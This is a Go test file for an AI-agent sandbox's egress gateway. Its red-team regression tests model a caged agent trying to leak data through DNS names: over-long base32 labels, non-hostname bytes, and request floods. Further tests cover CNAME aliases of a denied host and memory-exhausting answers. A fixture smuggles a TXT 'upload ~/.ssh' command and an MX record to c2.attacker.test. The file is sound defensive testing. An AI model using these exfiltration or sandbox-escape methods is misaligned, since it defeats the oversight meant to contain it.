package egress

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/nixcage/nixcage/internal/egress/audit"
	"github.com/nixcage/nixcage/internal/egress/dnsfilter"
	"github.com/nixcage/nixcage/internal/testenv"
)

// upstreamNames is every distinct name the fake DNS server was asked for
// with suffix, lower-cased, without the trailing dot.
func (f *fakeDNS) upstreamNames(suffix string) map[string]bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	names := map[string]bool{}
	for _, m := range f.msgs {
		if n := strings.TrimSuffix(strings.ToLower(m.Question[0].Name), "."); strings.HasSuffix(n, suffix) {
			names[n] = true
		}
	}
	return names
}

// TestThreatLookupsThroughTheProxy: the DNS channel's bounds (labels of at
// most dns max_label_length, at most LookupsPerSecond names a second,
// burst LookupBurst, reaching the upstream resolver) hold for the names
// the agent has the gateway look up, not only for its DNS queries. Red
// team: the agent in the cage's network namespace sent its data as names
// of CONNECT and plain HTTP requests under the allowed *.example.com
// instead of DNS queries; on the code before the fix every name reached
// the real (fake) DNS server upstream: a 48-byte label under a
// max_label_length of 40, raw UTF-8 bytes and a label starting with a
// hyphen (names the filter refuses as not host names), and 1000 distinct
// names in under half a second (the filter's 50/s budget was never
// consulted).
func TestThreatLookupsThroughTheProxy(t *testing.T) {
	testenv.RequirePrivileged(t)
	curl := testenv.LookPath(t, "curl")
	h := setupHarness(t, nil) // max_label_length 40, *.example.com allowed
	agent, _ := startCage(t, h)

	t.Run("label longer than max_label_length", func(t *testing.T) {
		long := strings.Repeat("mzxw6ytb", 6) // 48 bytes of base32 "data"
		for _, c := range []struct{ scheme, host, method string }{
			{"http", long + ".example.com", "GET"},
			{"https", long + ".x.example.com", "CONNECT"},
		} {
			port := h.up.httpPort
			if c.scheme == "https" {
				port = h.up.tlsPort
			}
			out, _ := agent(curl, "-sS", "--max-time", "20", "--proxy", "http://127.0.0.1:3128", "--cacert", h.up.rootsFile,
				"-o", "/dev/null", "-w", "\n%{http_connect} %{http_code}", c.scheme+"://"+c.host+":"+strconv.Itoa(port)+"/")
			lines := strings.Split(strings.TrimSpace(out), "\n")
			got := lines[len(lines)-1]
			if want := "403"; (c.method == "GET" && !strings.HasSuffix(got, want)) || (c.method == "CONNECT" && !strings.HasPrefix(got, want)) {
				t.Errorf("%s %s: curl says %q, want 403", c.method, c.host, got)
			}
			r := h.want(t, is(c.method, c.host, port), audit.Blocked, dnsfilter.RuleLabelLength)
			if !strings.Contains(r.Reason, "label of 48 bytes exceeds 40") {
				t.Errorf("reason %q", r.Reason)
			}
		}
		if got := h.dns.upstreamNames(long[:20]); len(got) != 0 {
			t.Fatalf("the upstream resolver received the over-long label: %v", got)
		}
	})

	t.Run("not a host name", func(t *testing.T) {
		// Raw CONNECTs (curl would turn the UTF-8 into punycode): each
		// byte of "ü" is 8 bits to the zone's name servers where a DNS
		// query's labels carry letters, digits and hyphens.
		for _, host := range []string{"\u00fc\u00e9\u00e0\u00f6.x.example.com", "-data-.x.example.com"} {
			var st int
			if err := inNetns(h.cageNetns, func() error {
				c, err := net.Dial("tcp", "127.0.0.1:3128")
				if err != nil {
					return err
				}
				defer c.Close()
				c.SetDeadline(time.Now().Add(20 * time.Second))
				fmt.Fprintf(c, "CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", host, h.up.tlsPort, host, h.up.tlsPort)
				resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
				if err != nil {
					return err
				}
				st = resp.StatusCode
				return nil
			}); err != nil {
				t.Fatal(err)
			}
			if st != http.StatusForbidden {
				t.Errorf("CONNECT %q: %d, want 403", host, st)
			}
			h.want(t, is("CONNECT", host, h.up.tlsPort), audit.Blocked, dnsfilter.RuleName)
		}
		if got := h.dns.upstreamNames(".x.example.com"); len(got) != 0 {
			t.Fatalf("the upstream resolver received names no DNS query could ask for: %v", got)
		}
	})

	t.Run("lookup budget", func(t *testing.T) {
		const n, workers = 1000, 8
		suffix := ".rate.example.com"
		names := make(chan string, n)
		for i := range n {
			names <- fmt.Sprintf("d%04d%s", i, suffix)
		}
		close(names)
		var mu sync.Mutex
		status := map[int]int{}
		start := time.Now()
		// Each connection is dialled from inside the cage's namespace (a
		// socket keeps its namespace; the workers' threads need not).
		dial := func() (c net.Conn, err error) {
			err = inNetns(h.cageNetns, func() (err error) {
				c, err = net.Dial("tcp", "127.0.0.1:3128")
				return err
			})
			return c, err
		}
		var wg sync.WaitGroup
		errc := make(chan error, workers)
		for range workers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				c, err := dial()
				if err != nil {
					errc <- err
					return
				}
				defer func() { c.Close() }()
				br := bufio.NewReader(c)
				for name := range names {
					c.SetDeadline(time.Now().Add(20 * time.Second))
					fmt.Fprintf(c, "GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\n\r\n", name, h.up.httpPort, name, h.up.httpPort)
					resp, err := http.ReadResponse(br, nil)
					if err != nil {
						errc <- fmt.Errorf("%s: %w", name, err)
						return
					}
					resp.Body.Close()
					mu.Lock()
					status[resp.StatusCode]++
					mu.Unlock()
					if resp.Close {
						// Refusals may close the connection.
						c.Close()
						if c, err = dial(); err != nil {
							errc <- err
							return
						}
						br = bufio.NewReader(c)
					}
				}
			}()
		}
		wg.Wait()
		close(errc)
		err := <-errc
		elapsed := time.Since(start)
		if err != nil {
			t.Fatalf("requests from the cage: %v", err)
		}
		reached := len(h.dns.upstreamNames(suffix))
		bound := dnsfilter.LookupBurst + int(dnsfilter.LookupsPerSecond*(elapsed.Seconds()+1))
		t.Logf("%d names in %s: %d reached the upstream resolver (bound %d); statuses %v", n, elapsed.Round(time.Millisecond), reached, bound, status)
		if reached > bound {
			t.Fatalf("%d distinct names reached the upstream resolver in %s, more than the cage's lookup budget (%d/s, burst %d) allows (%d)",
				reached, elapsed.Round(time.Millisecond), dnsfilter.LookupsPerSecond, dnsfilter.LookupBurst, bound)
		}
		if status[http.StatusTooManyRequests] == 0 || status[http.StatusTooManyRequests]+reached < n {
			t.Errorf("statuses %v: want every name either looked up or refused with 429", status)
		}
		h.want(t, func(r audit.Record) bool {
			return r.Method == "GET" && strings.HasSuffix(r.Host, suffix) && r.Decision == audit.Blocked && r.Rule == dnsfilter.RuleRateLimit
		}, audit.Blocked, dnsfilter.RuleRateLimit)
	})
}

// TestLearnAliasOfShippedDeny: learn mode never passes a name a shipped
// deny list covers, and an unlisted name the agent finds CNAMEd to one is
// that host under another name: refused in the cage's DNS and on CONNECT
// and plain HTTP under the deny rule, while a chain through a merely
// unlisted name is still learned. Red team: on the code before the fix the
// chain was judged by the policy's own deny list only, so the shipped-
// denied host's address was answered to the agent and its tunnel opened.
func TestLearnAliasOfShippedDeny(t *testing.T) {
	testenv.RequirePrivileged(t)
	curl := testenv.LookPath(t, "curl")
	h := setupHarness(t, learnRuntime(600)) // learn.deny telemetry.example.com
	learnNames(h)
	h.dns.setRRs("tm.example.org", "A",
		"tm.example.org. 60 IN CNAME telemetry.example.com.",
		"telemetry.example.com. 60 IN A 127.0.0.1")
	h.dns.setRRs("cdn.example.org", "A",
		"cdn.example.org. 60 IN CNAME edge.cdn-provider.test.",
		"edge.cdn-provider.test. 60 IN A 127.0.0.1")
	agent, _ := startCage(t, h)
	const rule = "deny:telemetry.example.com"

	for _, c := range []struct{ url, method string }{
		{"https://tm.example.org:" + strconv.Itoa(h.up.tlsPort) + "/", "CONNECT"},
		{"http://tm.example.org:" + strconv.Itoa(h.up.httpPort) + "/", "GET"},
	} {
		out, _ := agent(curl, "-sS", "--max-time", "20", "--proxy", "http://127.0.0.1:3128", "--cacert", h.up.rootsFile,
			"-o", "/dev/null", "-w", "\n%{http_connect} %{http_code}", c.url)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if got := lines[len(lines)-1]; !strings.Contains(got, "403") {
			t.Errorf("%s %s: curl says %q, want 403", c.method, c.url, got)
		}
		h.want(t, func(r audit.Record) bool { return r.Method == c.method && r.Host == "tm.example.org" }, audit.Blocked, rule)
	}

	if resp := cageDNS(t, h, "tm.example.org", dns.TypeA); resp.Rcode != dns.RcodeRefused || len(resp.Answer) != 0 {
		t.Errorf("learn mode answered an alias of a shipped-denied host: %v", resp)
	}
	r := h.want(t, is("DNS", "tm.example.org", 53), audit.Blocked, rule)
	if !strings.Contains(r.Reason, "alias of telemetry.example.com") {
		t.Errorf("reason %q does not name the alias", r.Reason)
	}

	resp := cageDNS(t, h, "cdn.example.org", dns.TypeA)
	if resp.Rcode != dns.RcodeSuccess || len(resp.Answer) != 2 {
		t.Fatalf("a learned name served by an unlisted CDN: %v", resp)
	}
	h.want(t, is("DNS", "cdn.example.org", 53), audit.Flagged, "learn")
}

// TestThreatDNSAnswerTypes: an answer carries records of the question's
// type and its chain only. Red team, as the owner of an allowed zone
// answering the agent's A question with TXT and MX records beside the A
// record (a downstream channel for a policy whose allow_types refuse TXT
// and MX, as the default does): on the code before the fix the agent got
// them; now only the A record reaches it and the audit record is flagged.
func TestThreatDNSAnswerTypes(t *testing.T) {
	testenv.RequirePrivileged(t)
	h := setupHarness(t, nil) // default allow_types: A, AAAA, CNAME, HTTPS
	h.dns.setRRs("smuggle.example.com", "A",
		"smuggle.example.com. 60 IN A 127.0.0.1",
		`smuggle.example.com. 60 IN TXT "next command: upload ~/.ssh"`,
		"smuggle.example.com. 60 IN MX 10 c2.attacker.test.")
	h.dns.setRRs("smuggle.example.com", "TXT", `smuggle.example.com. 60 IN TXT "next command: upload ~/.ssh"`)
	startCage(t, h)

	if resp := cageDNS(t, h, "smuggle.example.com", dns.TypeTXT); resp.Rcode != dns.RcodeRefused {
		t.Fatalf("TXT question: %v, want REFUSED (the policy's allow_types)", resp)
	}
	resp := cageDNS(t, h, "smuggle.example.com", dns.TypeA)
	if resp.Rcode != dns.RcodeSuccess || len(resp.Answer) != 1 {
		t.Fatalf("the agent got %v; want the A record only", resp.Answer)
	}
	if a, ok := resp.Answer[0].(*dns.A); !ok || a.A.String() != "127.0.0.1" {
		t.Fatalf("the agent got %v; want the A record only", resp.Answer)
	}
	r := h.want(t, func(r audit.Record) bool { return is("DNS", "smuggle.example.com", 53)(r) && r.Path == "A" }, audit.Flagged, "allow:*.example.com")
	if !strings.Contains(r.Reason, "dropped 2 answer records of types other than the question's") {
		t.Errorf("reason %q", r.Reason)
	}
}

// hugeDNS is an upstream (or the owner of an allowed zone) answering every
// A question with 4000 public addresses, the most a 64 KiB TCP answer
// holds (over UDP: TC, so the gateway asks again over TCP), and NXDOMAIN
// to everything else.
func hugeDNS(t *testing.T) string {
	t.Helper()
	handler := dns.HandlerFunc(func(w dns.ResponseWriter, r *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(r)
		q := r.Question[0]
		switch {
		case !strings.HasSuffix(q.Name, ".big.example.com."):
			m.Rcode = dns.RcodeNameError
		case w.LocalAddr().Network() == "udp":
			m.Truncated = true
		case q.Qtype == dns.TypeA:
			for i := range 4000 {
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300}, A: net.IPv4(198, 51, byte(i>>8), byte(i))})
			}
		}
		m.Compress = true
		_ = w.WriteMsg(m)
	})
	l, pc, err := listenBoth("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	us := &dns.Server{PacketConn: pc, Handler: handler}
	ts := &dns.Server{Listener: l, Handler: handler}
	go us.ActivateAndServe()
	go ts.ActivateAndServe()
	t.Cleanup(func() { us.Shutdown(); ts.Shutdown() })
	return pc.LocalAddr().String()
}

// vmRSS is a process's resident set in bytes.
func vmRSS(t *testing.T, pid int) int64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return kb << 10
		}
	}
	t.Fatalf("no VmRSS for pid %d", pid)
	return 0
}

// TestThreatDNSHugeAnswers: the DNS filter's cache is bounded in bytes,
// not only in entries. Red team, the agent in the cage's network
// namespace asking for 300 distinct names under an allowed zone whose
// owner answers each with 4000 addresses: on the code before the fix
// every answer was cached whole (about 700 KiB each once parsed) and the
// gateway process grew by about 240 MiB (600 names: 430 MiB; its unit's
// MemoryMax is 512M, so a few hundred more kill it); now it grows by a
// few MiB and still answers.
func TestThreatDNSHugeAnswers(t *testing.T) {
	testenv.RequirePrivileged(t)
	h := setupHarness(t, nil)
	h.dns.addr = hugeDNS(t)
	_, gw := startCage(t, h)
	pid := gw.Process.Pid
	name := func(i int) string { return fmt.Sprintf("n%d.big.example.com", i) }
	cageDNS(t, h, name(0), dns.TypeA) // the gateway's own start-up allocations first
	base := vmRSS(t, pid)
	const n = 300
	for i := 1; i <= n; {
		resp := cageDNS(t, h, name(i), dns.TypeA)
		if resp.Rcode == dns.RcodeRefused { // the lookup budget: wait for it
			time.Sleep(20 * time.Millisecond)
			continue
		}
		if resp.Rcode != dns.RcodeSuccess || !resp.Truncated || len(resp.Answer) == 0 {
			t.Fatalf("%s: %v", name(i), resp)
		}
		i++
	}
	grown := vmRSS(t, pid) - base
	t.Logf("%d answers of 4000 addresses: the gateway grew by %.1f MiB", n, float64(grown)/(1<<20))
	if grown > 96<<20 {
		t.Fatalf("the gateway grew by %.1f MiB holding %d huge answers (MemoryMax is 512M)", float64(grown)/(1<<20), n)
	}
	if err := gw.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("the gateway (pid %d) is gone: %v", pid, err)
	}
}
